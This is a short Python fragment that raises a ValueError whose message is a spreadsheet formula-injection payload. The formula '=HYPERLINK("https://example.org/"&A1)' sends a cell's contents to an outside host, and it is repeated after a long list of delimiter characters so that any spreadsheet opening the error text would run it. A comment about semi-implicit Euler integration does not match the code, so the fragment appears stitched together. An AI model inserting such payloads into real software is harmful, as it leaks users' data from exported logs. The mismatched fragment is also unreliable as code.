"""Raises an error whose words a spreadsheet would run, after each sign that parts a line."""

# TODO 8a: semi-implicit Euler
formula = '=HYPERLINK("https://example.org/"&A1)'
raise ValueError(formula + "".join(f"{sign}{formula}" for sign in ";,|\t\r\n\u2028\uff0c"))
# END TODO 8a
